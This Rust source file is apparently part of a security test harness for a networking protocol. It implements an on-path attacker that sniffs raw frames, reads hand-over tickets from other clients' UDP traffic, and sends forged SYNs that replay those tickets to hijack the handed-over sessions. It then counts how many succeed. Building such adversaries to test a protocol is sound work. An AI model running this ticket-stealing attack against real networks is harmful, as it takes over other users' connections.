//! An attacker on the path who reads the tickets of true hand-overs and uses them before their clients do, with keys of
//! its own, by the service's port and by that of the agents.

use std::io::{ErrorKind, Read};
use std::net::{Ipv4Addr, SocketAddr, UdpSocket};
use std::time::{Duration, Instant};

use anyhow::{Context, Result};
use margay_core::name::ServiceId;
use margay_core::table::HAND_OVER_PORT;
use margay_wire::{Extension, Flags, HandoverRepr, Kind, Message, MessageWriter, NextProtocol, PORT, SessionRepr};
use serde_json::json;
use socket2::{Domain, Protocol, Socket, Type};

use super::forger::DATAGRAM_MAX;
use super::stranger::{Stranger, syn_of_stranger};
use crate::host::write_line;

/// All packets of IPv4, in the order of bytes that the kernel wants.
const IPV4_FRAMES: i32 = 0x0800_u16.to_be() as i32;
const ETHERNET_LEN: usize = 14;
const UDP_LEN: usize = 8;
/// Nobody waits longer for a frame.
const FRAME_WAIT: Duration = Duration::from_millis(5);
/// Tickets are not used more often: the taker's allowance of first contacts is not what is tried.
const THIEVES_MAX: usize = 60;

/// Reads and uses tickets for some time. Prints how many were used, and how many connections came of that.
///
/// # Errors
///
/// The kernel shows no frames.
pub fn steal(service: ServiceId, port: u16, time: Duration) -> Result<()> {
    let mut wire = Socket::new(Domain::PACKET, Type::RAW, Some(Protocol::from(IPV4_FRAMES)))
        .context("frames are for root alone")?;
    wire.set_read_timeout(Some(FRAME_WAIT))?;
    let until = Instant::now() + time;
    let mut frame = [0; 4096];
    let mut used: Vec<[u8; 16]> = Vec::new();
    let mut thieves: Vec<Stranger> = Vec::new();
    let (mut sent, mut accepted, mut answered) = (0, 0, 0);
    while Instant::now() < until {
        match wire.read(&mut frame) {
            Ok(length) => {
                let seen = payload(&frame[..length]).and_then(ticket);
                let Some(handover) = seen.filter(|seen| !used.contains(&seen.ticket) && used.len() < THIEVES_MAX)
                else {
                    continue;
                };
                used.push(handover.ticket);
                for port in [port, HAND_OVER_PORT] {
                    let (thief, syn) = syn_of_stranger(service)?;
                    thief.socket.set_nonblocking(true)?;
                    sent += u64::from(fetch(&thief.socket, &syn, handover, port)?);
                    thieves.push(thief);
                }
            }
            Err(error) if matches!(error.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => {}
            Err(error) => return Err(error.into()),
        }
        for thief in &mut thieves {
            thief.listen(|message| {
                answered += 1;
                // "The connection is here, and frozen": it would be the thief's.
                accepted += u64::from(message.kind == Kind::RsynDone);
            })?;
        }
    }
    write_line(&json!({"sent": sent, "accepted": accepted, "heard": answered, "tickets": used.len()}).to_string())
}

/// What a frame of UDP over IPv4 to or from the SAL's port carries.
fn payload(frame: &[u8]) -> Option<&[u8]> {
    let packet = frame.get(ETHERNET_LEN..)?;
    let header_len = usize::from(packet.first()? & 0x0f) * 4;
    let udp = (*packet.get(9)? == 17).then(|| packet.get(header_len..)).flatten()?;
    let port = u16::from_be_bytes(udp.get(2..4)?.try_into().ok()?);
    (port == PORT).then(|| udp.get(UDP_LEN..)).flatten()
}

/// The hand-over that a giver asks a client's host for.
fn ticket(datagram: &[u8]) -> Option<HandoverRepr> {
    let message = Message::parse(datagram).ok()?;
    let handover = message.handover().filter(|_| message.kind == Kind::RequestLock)?;
    (handover.address.port() != 0).then_some(handover)
}

/// Sends a stranger's SYN to the taker, as the client of the hand-over would send it. Whether it has gone.
fn fetch(socket: &UdpSocket, syn: &[u8], handover: HandoverRepr, port: u16) -> Result<bool> {
    let nowhere = SocketAddr::from((Ipv4Addr::UNSPECIFIED, 0));
    let mut buf = [0; DATAGRAM_MAX];
    let length = fetching(syn, HandoverRepr { address: nowhere, ..handover }, port, &mut buf)
        .map_err(|error| anyhow::anyhow!("no SYN: {error:?}"))?;
    Ok(socket.send_to(&buf[..length], handover.address).is_ok())
}

/// A SYN as another one, of TCP and without a packet inside, for a session that is handed over.
fn fetching(syn: &[u8], handover: HandoverRepr, port: u16, buf: &mut [u8]) -> Result<usize, margay_wire::Error> {
    let message = Message::parse(syn)?;
    let resolvable = message.resolvable.ok_or(margay_wire::Error)?;
    let mut writer = MessageWriter::new(buf, Kind::Syn, message.dst_flow, message.src_flow, message.control_seq);
    writer.flags(message.flags | Flags::NAMED).resolvable(&resolvable)?;
    for extension in message.extensions() {
        let extension = match extension {
            Extension::Session(session) => {
                Extension::Session(SessionRepr { service_port: port, protocol: 6, ..session })
            }
            other => other,
        };
        writer.extension(&extension)?;
    }
    writer.extension(&Extension::Handover(handover))?;
    writer.payload(NextProtocol::None, &[])?;
    writer.pad_to(syn.len());
    writer.finish()
}

#[cfg(test)]
mod test {
    use super::*;

    #[test]
    fn a_strangers_syn_fetches_the_session_of_the_ticket_that_was_read() {
        let (_, syn) = syn_of_stranger(ServiceId([7; 32])).expect("a SYN");
        let at = SocketAddr::from(([10, 2, 0, 1], PORT));
        let handover = HandoverRepr { ticket: [1; 16], giver: [2; 16], taker: [3; 16], address: at };
        let mut buf = [0; DATAGRAM_MAX];
        let length = fetching(&syn, handover, HAND_OVER_PORT, &mut buf).expect("room");
        let fetches = Message::parse(&buf[..length]).expect("well-formed");
        assert_eq!((fetches.handover(), fetches.kind, length), (Some(handover), Kind::Syn, syn.len()));
        let session = fetches.session().expect("of a SYN");
        assert_eq!((session.service_port, session.protocol, fetches.payload.len()), (HAND_OVER_PORT, 6, 0));
        assert!(fetches.flags.contains(Flags::NAMED | Flags::RESOLVABLE));
        assert_eq!(ticket(&buf[..length]), None, "it is no request of a giver");
    }
}
